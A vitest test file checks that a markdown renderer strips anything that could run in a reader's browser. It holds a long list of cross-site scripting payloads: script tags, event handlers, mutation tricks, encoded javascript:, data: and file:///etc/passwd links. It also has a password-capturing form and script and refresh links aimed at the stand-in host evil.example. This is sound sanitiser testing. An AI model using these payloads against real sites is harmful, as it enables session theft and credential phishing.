/** Markdown that attacks its reader's browser. */
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "../../src/markdown/markdown.js";
import { findHarm } from "./harm-in-html.js";

async function expectHarmless(markdown: string): Promise<void> {
  const { html } = await renderMarkdown(markdown, { owner: "mallory" });
  expect(findHarm(html).map((harm) => [harm, html])).toEqual([]);
}

describe("nothing is left that runs", () => {
  it.each([
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "`</code><script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr = 'alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)//",
    '![x](x" onerror="alert\\(1\\))',
    '![" onerror="alert(1)](x)',
    "<p onclick=alert(1)>click</p>",
    '<details open ontoggle="alert(1)">x</details>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<form action=//evil.example><input name=password><button formaction=//evil.example>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example><link rel=stylesheet href=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "<p><p <script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "- [x] <img src=x onerror=alert(1)>",
  ])("of %j", expectHarmless);
});

describe("no link goes to what runs", () => {
  const addresses = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#x20;javascript:alert(1)",
    "javascript:alert(1)//https://example.org",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,<svg/onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "feed:javascript:alert(1)",
  ];

  it.each(addresses)("to %s", async (address) => {
    await expectHarmless(`[click](${address})`);
    await expectHarmless(`[click](<${address}>)`);
    await expectHarmless(`![picture](<${address}>)`);
    await expectHarmless(`[click][1]\n\n[1]: <${address}>`);
    await expectHarmless(`<${address}>`);
    for (const quote of ['"', "'"]) await expectHarmless(`<a href=${quote}${address}${quote}>click</a>`);
    await expectHarmless(`<img src="${address}"><blockquote cite="${address}">x</blockquote>`);
  });
});

it("would find it, if something were left", () => {
  const leaks = [
    ["<script>alert(1)</script>", "script"],
    ["<img src=x onerror=alert(1)>", "onError"],
    ['<a href="java\nscript:alert(1)">x</a>', "java\nscript:alert(1)"],
    ['<img src=" data:text/html,x">', " data:text/html,x"],
    ["<p style='x'>", "style"],
    ['<input type="text">', "input"],
    ["<!-- -->", "comment"],
  ] as const;
  for (const [html, harm] of leaks) expect(findHarm(html)).toEqual([harm]);
});

it("an id cannot take the name of something on the page", async () => {
  const { html } = await renderMarkdown('<a id="body" name="forms">x</a>', { owner: "mallory" });
  expect(html).toBe('<p><a id="user-content-body" name="user-content-forms">x</a></p>');
});
